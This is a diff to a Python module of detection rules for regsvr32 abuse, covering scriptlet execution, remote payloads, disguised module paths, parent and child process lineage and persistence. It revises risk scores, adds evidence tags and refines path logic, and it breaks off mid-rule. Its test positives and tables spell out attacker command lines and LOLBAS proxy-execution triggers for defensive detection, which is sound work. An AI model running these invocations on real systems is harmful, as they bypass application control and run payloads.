@@ -7,10 +7,11 @@ the logic ids L01-L34 of that survey.
 """
 import re
 
-from . import winpath
+from . import cmdline, winpath
 from .fields import (DNS, FILE, IMAGE_LOAD, NETWORK, PERSISTENCE, PROCESS, REGISTRY,
                      REMOTE_THREAD, REGSVR32)
-from .registry import COMMAND_LINE, actor, any_event, child, finish, rule, severity_for
+from .registry import (COMMAND_LINE, actor, any_event, child, finish, relaunch, rule,
+                       severity_for)
 
 T = "T1218.010"
 
@@ -18,8 +19,11 @@ T = "T1218.010"
 # ---------------------------------------------------------------------------------------
 # Tables the checks read. Names are lower-case file names.
 
-SCRIPT_PARENTS = frozenset(("mshta.exe", "wscript.exe", "cscript.exe", "powershell.exe",
-                            "pwsh.exe", "powershell_ise.exe"))
+SCRIPT_PARENTS = frozenset(("mshta.exe", "wscript.exe", "cscript.exe"))
+# Shells and runtimes that deployment tools, package managers and desktop applications use to
+# run regsvr32 every day (Intune, PSAppDeployToolkit, Chocolatey, scoop; Java desktop programs).
+RUNTIME_PARENTS = frozenset(("powershell.exe", "pwsh.exe", "powershell_ise.exe", "java.exe",
+                             "javaw.exe"))
 OFFICE_PARENTS = frozenset((
     "winword.exe", "excel.exe", "powerpnt.exe", "outlook.exe", "onenote.exe", "onenotem.exe",
     "onenoteim.exe", "msaccess.exe", "mspub.exe", "visio.exe", "eqnedt32.exe", "wordpad.exe",
@@ -28,10 +32,10 @@ OFFICE_PARENTS = frozenset((
 # (Splunk LOLBAS-spawn family, Sigma 8a582fe2 and the "suspicious child of X" rules).
 SERVER_PARENTS = frozenset((
     "wmiprvse.exe", "wsmprovhost.exe", "winrshost.exe", "mmc.exe", "services.exe", "svchost.exe",
-    "w3wp.exe", "httpd.exe", "nginx.exe", "tomcat.exe", "tomcat9.exe", "java.exe", "javaw.exe",
+    "w3wp.exe", "httpd.exe", "nginx.exe", "tomcat.exe", "tomcat9.exe",
     "sqlservr.exe", "sqlagent.exe", "hh.exe", "msdt.exe", "sdiagnhost.exe", "fodhelper.exe",
     "3cxdesktopapp.exe", "pc-app.exe", "node.exe", "umworkerprocess.exe", "wlsvc.exe",
-    "spoolsv.exe"))
+    "spoolsv.exe", "taskeng.exe", "taskhostw.exe"))
 SUSPICIOUS_CHILDREN = frozenset((
     "calc.exe", "cmd.exe", "powershell.exe", "pwsh.exe", "cscript.exe", "wscript.exe",
     "mshta.exe", "rundll32.exe", "net.exe", "net1.exe", "nltest.exe", "whoami.exe", "notepad.exe",
@@ -41,7 +45,7 @@ SUSPICIOUS_CHILDREN = frozenset((
 # Where Windows itself keeps regsvr32.exe (Sigma e4a6b256).
 REGSVR32_HOMES = tuple(":\\" + home + "\\" for home in (
     "windows\\system32", "windows\\syswow64", "windows\\winsxs", "windows\\softwaredistribution",
-    "windows\\systemtemp", "windows\\uus", "$windows.~bt", "$winreagent"))
+    "windows\\systemtemp", "windows\\uus", "windows\\system", "$windows.~bt", "$winreagent"))
 TRUSTED_SIGNATURE_STATUS = frozenset(("errorchaining", "errorcode_endpoint", "errorexpired", "expired",
                                       "trusted", "valid"))
 SCRIPT_RUNTIMES = frozenset(("scrobj.dll",))
@@ -103,7 +107,7 @@ def _clip(text, n=160):
 
 
 @rule("R32-001", "Scriptlet run through scrobj.dll (Squiblydoo)",
-      COMMAND_LINE, risk=85, family="scriptlets_and_remote_payloads",
+      COMMAND_LINE, risk=85, family="scriptlets_and_remote_payloads", evidence="scriptlet",
       techniques=(T,), sources=("L01", "QOMPLX", "Splunk 070e9b80", "CAR-2019-04-003", "Elastic EP 0524c24c", "Fibratus"),
       description=("regsvr32 hands a scriptlet to scrobj.dll's DllInstall through /i:, local or remote: the "
                    "classic application-control bypass. Requires /i: so that re-registering scrobj.dll "
@@ -124,7 +128,7 @@ def squiblydoo(inv):
 
 
 @rule("R32-002", "Module or scriptlet fetched from a URL",
-      COMMAND_LINE, risk=90, family="scriptlets_and_remote_payloads",
+      COMMAND_LINE, risk=90, family="scriptlets_and_remote_payloads", evidence="remote",
       techniques=(T, "T1105"), sources=("L03", "QOMPLX", "Sigma 867356ee", "Sigma 8e2b24c9"),
       description=("A /i: argument or module given as an http, https, ftp or file URL: regsvr32 downloads "
                    "and runs it."),
@@ -144,7 +148,7 @@ def remote_url(inv):
 
 
 @rule("R32-003", "Payload served from a raw or encoded IP address",
-      COMMAND_LINE, risk=90, family="scriptlets_and_remote_payloads",
+      COMMAND_LINE, risk=90, family="scriptlets_and_remote_payloads", evidence="remote",
       techniques=(T, "T1105"), sources=("L04", "Sigma 2dd2c217"),
       description=("The URL or share host is an IP literal, in any notation inet_aton accepts: dotted, hex, "
                    "octal, one integer, short forms or IPv6."),
@@ -168,7 +172,7 @@ def ip_host(inv):
 
 
 @rule("R32-004", "Scriptlet-style /i: path or URL given to a module other than scrobj.dll",
-      COMMAND_LINE, risk=70, family="scriptlets_and_remote_payloads",
+      COMMAND_LINE, risk=70, family="scriptlets_and_remote_payloads", evidence="scriptlet",
       techniques=(T,), sources=("L02", "Elastic EP 0524c24c", "Fibratus"),
       description=("An /i: argument that is a path or URL, handed to some other module: a renamed or copied "
                    "scrobj.dll runs scriptlets exactly like the original."),
@@ -187,7 +191,7 @@ def renamed_scrobj(inv):
 
 
 @rule("R32-005", "/i without /n: DllInstall and DllRegisterServer both run",
-      COMMAND_LINE, risk=30, family="implicit_dllregisterserver_and_odd_invocations",
+      COMMAND_LINE, risk=30, family="implicit_dllregisterserver_and_odd_invocations", evidence="invocation",
       techniques=(T,), sources=("L05", "L07", "Sigma b236190c", "Splunk f421c250", "Fibratus"),
       description=("With /i and no /n, regsvr32 calls the module's DllInstall and then its DllRegisterServer "
                    "(DllUnregisterServer with /u): two entry points of code."),
@@ -206,7 +210,7 @@ def install_without_n(inv):
 
 
 @rule("R32-006", "Silent DllRegisterServer call on a module outside the system and Program Files",
-      COMMAND_LINE, risk=40, family="implicit_dllregisterserver_and_odd_invocations",
+      COMMAND_LINE, risk=15, family="implicit_dllregisterserver_and_odd_invocations", evidence="invocation",
       techniques=(T,), sources=("L06", "L08", "Sigma ce2c44b5", "Splunk c9ef7dc4"),
       description=("/s or /e, no /i and no /u, and a module (resolved against the working directory) that is "
                    "not under Windows or Program Files. Reproduces Sigma ce2c44b5 on the parsed module, so "
@@ -229,12 +233,14 @@ def silent_register_outside(inv):
     return None
 
 
-@rule("R32-007", "Module or scriptlet in a user-writable folder",
-      COMMAND_LINE, risk=55, family="suspicious_paths_and_disguised_extensions",
+@rule("R32-007", "Module or scriptlet in a user-writable staging folder",
+      COMMAND_LINE, risk=60, family="suspicious_paths_and_disguised_extensions", evidence="location",
       techniques=(T,), sources=("L09", "Sigma 9525dc73", "Elastic EP 5db08297", "Elastic cff92c41", "Splunk 62732736"),
-      description=("A module or /i: scriptlet under AppData, Temp, Users\\Public, ProgramData, Downloads, "
-                   "Desktop, Documents, Pictures, Music, Windows\\Temp or Windows\\Tasks, after resolving 8.3 "
-                   "names, forward slashes, '..' and %VARIABLES%."),
+      description=("A module or /i: scriptlet where payloads are dropped: Users\\Public, any Temp folder "
+                   "(also Windows\\Temp and Windows\\Tasks), or right in ProgramData, AppData, the profile, "
+                   "Downloads, Desktop or Documents rather than in a folder of its own, after resolving "
+                   "8.3 names, forward slashes, '..' and %VARIABLES%. Per-user installs have a folder "
+                   "of their own (R32-040)."),
       positives=(
         "regsvr32.exe /s C:\\Users\\Public\\payload.dll",
         "regsvr32 /s C:/Users/Public/x.dat",
@@ -242,16 +248,18 @@ def silent_register_outside(inv):
         "regsvr32 /s C:\\PROGRA~3\\x.dat",),
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-        'regsvr32 /s "C:\\Program Files\\Oracle\\VirtualBox\\VBoxC.dll"',))
+        'regsvr32 /s "C:\\Program Files\\Oracle\\VirtualBox\\VBoxC.dll"',
+        "regsvr32 /s C:\\Users\\bob\\AppData\\Local\\Vendor\\App\\shellext.dll",))
 def user_writable(inv):
-    t = _first(inv, "location", winpath.USER_WRITABLE)
-    if t is None:
-        return None
-    return "%s %s is in a user-writable folder (%s)" % (_role(t, inv), _clip(t.path), t.where)
+    for t in inv.targets:
+        if winpath.is_staging(t):
+            return "%s %s is in a user-writable staging folder (%s)" % (
+                _role(t, inv), _clip(t.path), t.where)
+    return None
 
 
 @rule("R32-008", "Module with a non-module extension in a user-writable folder",
-      COMMAND_LINE, risk=70, family="suspicious_paths_and_disguised_extensions",
+      COMMAND_LINE, risk=70, family="suspicious_paths_and_disguised_extensions", evidence="format",
       techniques=(T,), sources=("ESCU 62732736", "L09", "L11", "Sigma 4fcac6eb", "Sigma e6eb5a96"),
       description=("A module in a user-writable folder whose extension is not .dll, .ocx, .ax or .cpl: the "
                    "Splunk ESCU seed analytic, fixed to read the module's own extension rather than any "
@@ -275,7 +283,7 @@ def writable_non_module(inv):
 
 
 @rule("R32-009", "Module or scriptlet in a folder malware favours",
-      COMMAND_LINE, risk=75, family="suspicious_paths_and_disguised_extensions",
+      COMMAND_LINE, risk=75, family="suspicious_paths_and_disguised_extensions", evidence="location",
       techniques=(T,), sources=("L10", "Sigma 327ff235", "Elastic cff92c41"),
       description=("PerfLogs, C:\\Temp, Windows\\Tracing, Registration\\CRMLog, System32\\com\\dmp, FxsTmp, spool "
                    "folders, MachineKeys, Tasks, the Recycle Bin and other Windows subfolders that "
@@ -294,7 +302,7 @@ def suspicious_folder(inv):
 
 
 @rule("R32-010", "Module disguised as an image, document, log or temp file",
-      COMMAND_LINE, risk=75, family="suspicious_paths_and_disguised_extensions",
+      COMMAND_LINE, risk=75, family="suspicious_paths_and_disguised_extensions", evidence="format",
       techniques=(T, "T1036.008"), sources=("L11", "Sigma 089fc3d2", "Elastic EP 5db08297", "Sigma 4fcac6eb"),
       description=("The module's own extension is one of an image, data, document, log or temp file (.jpg, "
                    ".png, .dat, .log, .tmp, .txt, .pdf ...), quoted or not, trailing blanks or not."),
@@ -313,7 +321,7 @@ def disguised_extension(inv):
 
 
 @rule("R32-011", "Module with an unusual extension",
-      COMMAND_LINE, risk=40, family="suspicious_paths_and_disguised_extensions",
+      COMMAND_LINE, risk=55, family="suspicious_paths_and_disguised_extensions", evidence="format",
       techniques=(T,), sources=("L12", "Sigma 50919691"),
       description=("The module's extension is neither a module's (.dll, .ocx, .ax, .cpl), nor a disguise "
                    "(R32-010), nor missing (the loader adds .dll): .exe, .bav, .ppl, .xyz ..."),
@@ -331,7 +339,7 @@ def unusual_extension(inv):
 
 
 @rule("R32-012", "Module or scriptlet on a remote SMB share",
-      COMMAND_LINE, risk=70, family="scriptlets_and_remote_payloads",
+      COMMAND_LINE, risk=70, family="scriptlets_and_remote_payloads", evidence="remote",
       techniques=(T,), sources=("L13", "Sigma 88a87a10"),
       description=("A UNC path (\\\\host\\share\\...), also after /i:, quoted, or behind \\\\?\\UNC\\."),
       positives=(
@@ -349,7 +357,7 @@ def unc_share(inv):
 
 
 @rule("R32-013", "Module or scriptlet fetched over WebDAV",
-      COMMAND_LINE, risk=80, family="scriptlets_and_remote_payloads",
+      COMMAND_LINE, risk=80, family="scriptlets_and_remote_payloads", evidence="remote",
       techniques=(T, "T1105"), sources=("L13", "Elastic EP 4bdd5646", "Elastic EP 5db08297"),
       description=("A share path that WebDAV serves: host@SSL, host@80 or @443, or a DavWWWRoot folder."),
       positives=(
@@ -366,22 +374,23 @@ def webdav(inv):
 
 
 @rule("R32-014", "regsvr32 started by a script host",
-      actor(PROCESS), risk=55, family="parent_lineage",
+      actor(PROCESS), risk=55, family="parent_lineage", evidence="lineage",
       techniques=(T, "T1059"), sources=("L14", "Sigma ab37a6ec", "Splunk 4aa5d062", "Splunk 1f35e1da", "Sentinel bef2bd1b"),
-      description=("Parent is mshta, wscript, cscript or PowerShell. cmd.exe alone is left out: installer "
-                   "batch files start regsvr32 all day."),
+      description=("Parent is mshta, wscript or cscript. cmd.exe is left out (installer batch files "
+                   "start regsvr32 all day) and PowerShell is R32-042."),
       positives=(
         {"CommandLine": "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll", "ParentImage": "C:\\Windows\\System32\\mshta.exe"},
-        {"CommandLine": "regsvr32 /s x.dll", "ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"},),
+        {"CommandLine": "regsvr32 /s x.dll", "ParentImage": "C:\\Windows\\System32\\wscript.exe"},),
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-        {"CommandLine": "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll", "ParentImage": "C:\\Windows\\explorer.exe"},))
+        {"CommandLine": "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll", "ParentImage": "C:\\Windows\\explorer.exe"},
+        {"CommandLine": "regsvr32 /s x.dll", "ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"},))
 def script_parent(ev):
     return _parent_in(ev, SCRIPT_PARENTS, "script host")
 
 
 @rule("R32-015", "regsvr32 started by an Office application",
-      actor(PROCESS), risk=75, family="parent_lineage",
+      actor(PROCESS), risk=75, family="parent_lineage", evidence="lineage",
       techniques=(T, "T1204.002"), sources=("L15", "Splunk 2d9fc90c", "Sigma 438025f9", "Elastic a624863f", "Sigma e6eb5a96"),
       description=("Parent is Word, Excel, PowerPoint, Outlook, OneNote, Access, Publisher, Visio or the "
                    "Equation Editor: a macro or exploit at work."),
@@ -394,7 +403,7 @@ def office_parent(ev):
 
 
 @rule("R32-016", "regsvr32 started by a server or remote-execution host",
-      actor(PROCESS), risk=60, family="parent_lineage",
+      actor(PROCESS), risk=60, family="parent_lineage", evidence="lineage",
       techniques=(T, "T1047"), sources=("L16", "Splunk 95a455f0", "Splunk ba9e1954", "Splunk 09e5c72a", "Sigma 8a582fe2", "Sigma d52d2e87"),
       description=("Parent is WmiPrvSE, WsmProvHost, WinRS, services, svchost, MMC, a web, database or Java "
                    "server, hh, msdt or fodhelper: remote execution, exploitation or a persisted launch "
@@ -410,7 +419,7 @@ def server_parent(ev):
 
 
 @rule("R32-017", "regsvr32 started a shell, script host or reconnaissance tool",
-      child(), risk=80, family="children_of_regsvr32",
+      child(), risk=80, family="children_of_regsvr32", evidence="behaviour",
       techniques=(T, "T1059"), sources=("L17", "Veramine", "Sigma 6f0947a4", "Splunk 61490da9"),
       description=("A child of regsvr32 such as calc, cmd, PowerShell, wscript, mshta, rundll32, net, "
                    "nltest, whoami, reg, schtasks or explorer: the registered code is running commands."),
@@ -427,7 +436,7 @@ def suspicious_child(ev):
 
 
 @rule("R32-018", "regsvr32 started a child process",
-      child(), risk=50, family="children_of_regsvr32",
+      child(), risk=50, family="children_of_regsvr32", evidence="behaviour",
       techniques=(T,), sources=("CAR-2019-04-002", "Veramine", "L17"),
       description=("Any child of regsvr32 other than regsvr32 itself (the 64-to-32-bit re-launch): "
                    "registration code rarely starts programs. The default allowlist keeps WerFault crash "
@@ -444,7 +453,7 @@ def any_child(ev):
 
 
 @rule("R32-019", "Renamed regsvr32",
-      actor(PROCESS), risk=80, family="renamed_or_relocated_binary",
+      actor(PROCESS), risk=80, family="renamed_or_relocated_binary", evidence="identity",
       techniques=(T, "T1036.003"), sources=("L18", "Splunk 7349a9e9", "Sigma 0ba1da6d", "Elastic EP b0207677"),
       description=("The file is regsvr32 (OriginalFileName REGSVR32.EXE, or the file description "
                    "'Microsoft(C) Register Server' where Sysmon logs no OriginalFileName) but it runs under "
@@ -466,7 +475,7 @@ def renamed_binary(ev):
 
 
 @rule("R32-020", "regsvr32.exe running from an unexpected folder",
-      actor(PROCESS), risk=70, family="renamed_or_relocated_binary",
+      actor(PROCESS), risk=70, family="renamed_or_relocated_binary", evidence="identity",
       techniques=(T, "T1036.005"), sources=("L19", "Sigma e4a6b256", "Splunk 326fdf44", "Elastic EP 35dedf0c", "Sigma 933f0bb5"),
       description=("An image named regsvr32.exe outside System32, SysWOW64, WinSxS and the Windows servicing "
                    "folders: a copy planted next to a payload or a look-alike."),
@@ -483,7 +492,7 @@ def unexpected_home(ev):
 
 
 @rule("R32-021", "regsvr32 connected to a public address",
-      actor(NETWORK), risk=70, family="network",
+      actor(NETWORK), risk=70, family="network", evidence="network",
       techniques=(T, "T1105"), sources=("L20", "Sigma c7e91a02", "Elastic fb02b8d3", "Splunk 2820f032"),
       description=("An outbound connection by regsvr32 to an internet address: fetching a scriptlet or "
                    "talking to a controller."),
@@ -498,7 +507,7 @@ def public_connection(ev):
 
 
 @rule("R32-022", "regsvr32 connected to a non-public address",
-      actor(NETWORK), risk=30, family="network",
+      actor(NETWORK), risk=30, family="network", evidence="network",
       techniques=(T,), sources=("L20", "Sigma c7e91a02"),
       description=("An outbound connection by regsvr32 to a private, loopback, link-local or reserved "
                    "address: internal staging servers and lateral movement; lower risk than a public one."),
@@ -511,7 +520,7 @@ def private_connection(ev):
 
 
 @rule("R32-023", "regsvr32 resolved a host name",
-      actor(DNS), risk=50, family="network",
+      actor(DNS), risk=50, family="network", evidence="network",
       techniques=(T, "T1105"), sources=("L20", "Sigma 36e037c4", "Elastic 1fe3b299"),
       description=("A DNS query by regsvr32 (Sysmon 22). The default allowlist keeps certificate revocation "
                    "and OCSP hosts."),
@@ -526,7 +535,7 @@ def dns_query(ev):
 
 
 @rule("R32-024", "regsvr32 run with no arguments",
-      COMMAND_LINE, risk=70, family="implicit_dllregisterserver_and_odd_invocations",
+      COMMAND_LINE, risk=70, family="implicit_dllregisterserver_and_odd_invocations", evidence="invocation",
       techniques=(T, "T1055"), sources=("L21", "Sigma a7c3d773", "Sigma 20384606", "Elastic EP 95601d8b"),
       description=("regsvr32 with nothing to register does nothing by itself: a sacrificial process for "
                    "injected code (Cobalt Strike spawnto)."),
@@ -544,7 +553,7 @@ def no_arguments(inv):
 
 
 @rule("R32-025", "regsvr32 loaded an unsigned module from outside Windows and Program Files",
-      actor(IMAGE_LOAD), risk=70, family="image_loads",
+      actor(IMAGE_LOAD), risk=70, family="image_loads", evidence="load",
       techniques=(T,), sources=("CAR-2019-04-002", "Veramine", "L22"),
       description=("Sysmon image load: Signed=false and the module is not under Windows or Program Files "
                    "(the seed analytics' unsigned-load logic)."),
@@ -563,7 +572,7 @@ def unsigned_outside(ev):
 
 
 @rule("R32-026", "regsvr32 loaded a module without a trusted signature",
-      actor(IMAGE_LOAD), risk=45, family="image_loads",
+      actor(IMAGE_LOAD), risk=45, family="image_loads", evidence="load",
       techniques=(T,), sources=("L22", "Sigma b5de0c9a"),
       description=("Sysmon image load whose Signed is not true and whose SignatureStatus is not "
                    "Valid/Trusted/expired/chaining (Sigma b5de0c9a), wherever the module is."),
@@ -582,7 +591,7 @@ def untrusted_signature(ev):
 
 
 @rule("R32-027", "regsvr32 loaded the scriptlet runtime",
-      actor(IMAGE_LOAD), risk=75, family="image_loads",
+      actor(IMAGE_LOAD), risk=75, family="image_loads", evidence="scriptlet",
       techniques=(T,), sources=("Veramine", "L25", "Elastic 4ed678a9"),
       description=("regsvr32 loaded scrobj.dll: a scriptlet is running, whatever the command line said (it "
                    "also catches a renamed scrobj.dll copy loaded under its real name)."),
@@ -599,7 +608,7 @@ def script_runtime_load(ev):
 
 
 @rule("R32-028", ".NET runtime inside regsvr32 (DotNetToJScript)",
-      actor(IMAGE_LOAD, FILE), risk=75, family="image_loads",
+      actor(IMAGE_LOAD, FILE), risk=75, family="image_loads", evidence="scriptlet",
       techniques=(T, "T1620"), sources=("L24", "Veramine", "Sigma 4508a70e", "Sigma e0b06658", "Elastic acf738b5", "LOLBAS"),
       description=("regsvr32 loaded clr.dll, mscoree.dll or mscorlib, or wrote the .NET usage log "
                    "UsageLogs\\regsvr32.exe.log: a scriptlet is running .NET code."),
@@ -618,7 +627,7 @@ def clr_in_regsvr32(ev):
 
 
 @rule("R32-029", "regsvr32 loaded a module from a user-writable folder or with an odd extension",
-      actor(IMAGE_LOAD), risk=60, family="image_loads",
+      actor(IMAGE_LOAD), risk=60, family="image_loads", evidence="load",
       techniques=(T,), sources=("Veramine", "L12", "Elastic EP 76da5dca", "Sentinel f24f6403"),
       description=("Sysmon image load of a module in a user-writable, suspicious or network location, or "
                    "whose extension is not one a loaded module has (Elastic 76da5dca)."),
@@ -640,7 +649,7 @@ def odd_module_load(ev):
 
 
 @rule("R32-030", "Scriptlet runtime loaded by an unexpected Windows program",
-      any_event(IMAGE_LOAD), risk=45, family="image_loads",
+      any_event(IMAGE_LOAD), risk=45, family="image_loads", evidence="scriptlet",
       techniques=(T,), sources=("L25", "Elastic 4ed678a9"),
       description=("A System32 or SysWOW64 program outside the usual script hosts loaded scrobj.dll (Elastic "
                    "4ed678a9); regsvr32 itself is R32-027."),
@@ -659,7 +668,7 @@ def scrobj_elsewhere(ev):
 
 
 @rule("R32-031", "COM class pointed at scrobj.dll or a scriptlet URL",
-      any_event(REGISTRY), risk=70, family="registry_persistence_and_scrobj_com_hijack",
+      any_event(REGISTRY), risk=70, family="registry_persistence_and_scrobj_com_hijack", evidence="persistence",
       techniques=("T1546.015", T), sources=("L26", "Sigma fe20dda1", "Elastic 16a52c14", "Splunk 127c8d08"),
       description=("A registry write that makes a COM class's InprocServer32 scrobj.dll or sets a "
                    "ScriptletURL: a scriptlet COM hijack that runs whenever the class is used."),
@@ -687,7 +696,7 @@ def scrobj_com(ev):
 
 
 @rule("R32-032", "Icon-overlay handler registered by regsvr32",
-      actor(REGISTRY), risk=55, family="registry_persistence_and_scrobj_com_hijack",
+      actor(REGISTRY), risk=55, family="registry_persistence_and_scrobj_com_hijack", evidence="persistence",
       techniques=(T, "T1546.015"), sources=("Veramine",),
       description=("regsvr32 wrote under ShellIconOverlayIdentifiers: an Explorer shell extension that loads "
                    "in every Explorer process (persistence; Veramine). The default allowlist keeps the "
@@ -703,7 +712,7 @@ def icon_overlay(ev):
 
 
 @rule("R32-033", "regsvr32 created a thread in another process",
-      actor(REMOTE_THREAD), risk=80, family="children_of_regsvr32",
+      actor(REMOTE_THREAD), risk=80, family="children_of_regsvr32", evidence="behaviour",
       techniques=(T, "T1055"), sources=("L34", "Sigma 02d1d718"),
       description=("Sysmon CreateRemoteThread with regsvr32 as the source: code injection from the "
                    "registered module."),
@@ -716,7 +725,7 @@ def remote_thread(ev):
 
 
 @rule("R32-034", "Persistence that launches regsvr32",
-      any_event(PERSISTENCE, REGISTRY, PROCESS), risk=65, family="registry_persistence_and_scrobj_com_hijack",
+      any_event(PERSISTENCE, REGISTRY, PROCESS), risk=65, family="registry_persistence_and_scrobj_com_hijack", evidence="persistence",
       techniques=(T, "T1053.005", "T1543.003", "T1547.001"), sources=("L33", "Sigma 3a734d25", "Sigma 614cf376", "CAR-2021-12-001"),
       description=("A scheduled task, service, autorun registry value, or a schtasks/reg/sc command that "
                    "will run regsvr32 later."),
@@ -741,14 +750,16 @@ def persistence(ev):
         text, how = ev.command_line, ev.image_name
     else:
         return None
-    at = text.lower().find("regsvr32")
-    if at < 0:
-        return None
-    return "%s launches regsvr32: %s" % (how, _clip(text[at:], 200))
+    for shown in [text] + cmdline.encoded_commands(text):
+        at = shown.lower().find("regsvr32")
+        if at >= 0:
+            hidden = "" if shown is text else " (in an encoded PowerShell command)"
+            return "%s launches regsvr32%s: %s" % (how, hidden, _clip(shown[at:], 200))
+    return None
 
 
 @rule("R32-035", "Path or switch syntax that evades string rules",
-      COMMAND_LINE, risk=55, family="implicit_dllregisterserver_and_odd_invocations",
+      COMMAND_LINE, risk=45, family="implicit_dllregisterserver_and_odd_invocations", evidence="syntax",
       techniques=(T, "T1027.010"), sources=("L29", "Elastic EP 5db08297"),
       description=("Forward slashes, '..' in an absolute path, 8.3 short names, \\\\?\\ or \\\\.\\ prefixes, NTFS "
                    "alternate data streams, unexpanded %VARIABLES% or switches run together (/s/u/i:): forms "
@@ -771,7 +782,7 @@ def path_syntax(inv):
 
 
 @rule("R32-036", "Unicode look-alikes in the command line",
-      COMMAND_LINE, risk=70, family="implicit_dllregisterserver_and_odd_invocations",
+      COMMAND_LINE, risk=70, family="implicit_dllregisterserver_and_odd_invocations", evidence="syntax",
       techniques=(T, "T1027.010"), sources=("L30", "Elastic 37148ae6", "Sigma b236190c"),
       description=("Switches written with Unicode dashes (U+2013, U+2014, U+2015) or modifier letters in the "
                    "command line: obfuscation aimed at literal-string rules."),
@@ -793,21 +804,23 @@ def unicode_tricks(inv):
 
 
 @rule("R32-037", "Module on another drive or mounted media",
-      COMMAND_LINE, risk=35, family="suspicious_paths_and_disguised_extensions",
+      COMMAND_LINE, risk=20, family="suspicious_paths_and_disguised_extensions", evidence="location",
       techniques=(T,), sources=("L28", "Sigma d4ca7c59", "Elastic 8a1d4831"),
-      description=("The module (resolved against the working directory) is on a drive other than C:, as when "
-                   "a mounted ISO or USB stick carries the payload. Low risk: servers keep software on other "
-                   "drives."),
+      description=("The module (resolved against the working directory) is in a folder on a drive other "
+                   "than C:. Low risk: servers and developers keep software on other drives; the root of "
+                   "such a drive, where a mounted ISO or USB stick puts its files, is R32-041."),
       positives=(
-        "regsvr32 /s E:\\invoice.dll",
-        {"CommandLine": "regsvr32 /s x.dll", "CurrentDirectory": "D:\\"},),
+        "regsvr32 /s E:\\files\\invoice.dll",
+        {"CommandLine": "regsvr32 /s x.dll", "CurrentDirectory": "D:\\Apps\\Billing"},),
       negatives=(
-        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",))
+        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
+        "regsvr32 /s E:\\invoice.dll",))
 def other_drive(inv):
-    m = inv.first.get(("module location", winpath.OTHER_DRIVE))
-    if m is None:
-        return None
-    return "module %s is on %s (removable or mounted media?)" % (_clip(m.path), m.where)
+    for m in inv.modules:
+        if m.location == winpath.OTHER_DRIVE and m.depth > 0:
+            return "module %s is on %s, in a folder (software on a data drive, or mounted media)" % (
+                _clip(m.path), m.where)
+    return None
 
 
 def _qakbot(inv):
@@ -829,7 +842,7 @@ CAMPAIGNS = (("Qakbot (-s ... calc)", _qakbot),
 
 
 @rule("R32-038", "Known campaign pattern",
-      COMMAND_LINE, risk=90, family="suspicious_paths_and_disguised_extensions",
+      COMMAND_LINE, risk=90, family="suspicious_paths_and_disguised_extensions", evidence="campaign",
       techniques=(T,), sources=("L31", "Sigma 0033cf83", "Sigma bd70d3f8", "Sigma 8acf3cfa"),
       description=("Patterns of named campaigns: Qakbot (-s ... calc), BlueMushroom (,DllEntry from "
                    "AppData\\Local), EvilNum (/s /i .ocx from AppData\\Roaming)."),
@@ -848,7 +861,7 @@ def campaign(inv):
 
 
 @rule("R32-039", "Module in an unusual folder",
-      COMMAND_LINE, risk=35, family="suspicious_paths_and_disguised_extensions",
+      COMMAND_LINE, risk=25, family="suspicious_paths_and_disguised_extensions", evidence="location",
       techniques=(T,), sources=("L10", "Sigma 327ff235"),
       description=("A module with an absolute (or resolved) path outside Windows, Program Files, ProgramData "
                    "and user profiles, such as C:\\AtomicRedTeam\\ or C:\\Tools\\ (Sigma 327ff235's second "
@@ -863,10 +876,284 @@ def campaign(inv):
         "regsvr32 /s C:\\Users\\Public\\x.dll",))
 def unusual_folder(inv):
     m = inv.first.get(("module location", winpath.OTHER))
-    if m is None:
+    if m is None or m.where == "drive root":        # the root itself is R32-041
         return None
     return "module %s is in %s, outside Windows, Program Files and user folders" % (
         _clip(m.path), m.where)
+
+
+# Folders of System32 and SysWOW64 that Windows and well-known components create. A module in
+# another subfolder is how Emotet hides (C:\Windows\SysWOW64\<random>\<random>.<ext>).
+SYSTEM_SUBFOLDERS = frozenset((
+    "0409 1033 adfs appmgmt applocker appraiser ar-sa bg-bg boot bthprops catroot catroot2 "
+    "codeintegrity com config cs-cz da-dk de-de dism downlevel driverstore drivers drvstore dsc "
+    "el-gr en en-gb en-us es-es es-mx et-ee fi-fi fr-ca fr-fr grouppolicy grouppolicyusers he-il "
+    "hr-hr hu-hu ias icsxml ime inetsrv it-it ja-jp ko-kr logfiles lt-lt lv-lv lxss macromed "
+    "manifeststore microsoft migration migwiz msdtc mui nb-no networklist nl-nl oobe pl-pl "
+    "printing_admin_scripts pt-br pt-pt ras recovery restore ro-ro ru-ru rpcproxy setup shellext "
+    "sk-sk sl-si speech speech_onecore spool spp sr-latn-rs sru sv-se sysprep tasks tasks_migrated "
+    "th-th tr-tr uk-ua v1.0 wbem wdi windowspowershell winbiodatabase winevt winrm zh-cn zh-hk "
+    "zh-tw dllcache icsxml wfp hydra qtsr nvidia").split())
+# Launchers that run another program from their command line (LOLBAS proxy execution), and the
+# word in the command line that makes them do it.
+PROXIES = (("rundll32.exe", "shellexec_rundll"), ("rundll32.exe", "fileprotocolhandler"),
+           ("rundll32.exe", "routethecall"), ("rundll32.exe", "openurl"),
+           ("wmic.exe", "call create"), ("forfiles.exe", "/c"), ("pcalua.exe", "-a"),
+           ("mshta.exe", "script:"), ("conhost.exe", "--headless"), ("explorer.exe", "regsvr32"),
+           ("scriptrunner.exe", "-appvscript"), ("syncappvpublishingserver.exe", "regsvr32"))
+
+
+@rule("R32-040", "Module in a per-user or ProgramData application folder",
+      COMMAND_LINE, risk=20, family="suspicious_paths_and_disguised_extensions", evidence="location",
+      techniques=(T,), sources=("L09", "Sigma 9525dc73", "Elastic EP 5db08297"),
+      description=("A module in a folder of its own under the user profile or ProgramData "
+                   "(AppData\\Local\\<Vendor>, AppData\\Roaming\\<Vendor>, AppData\\Local\\Programs, a "
+                   "source tree or a package manager's folder): where per-user installs and developers "
+                   "keep software, and where some malware hides. Low risk on its own; with other "
+                   "evidence it raises the score."),
+      positives=(
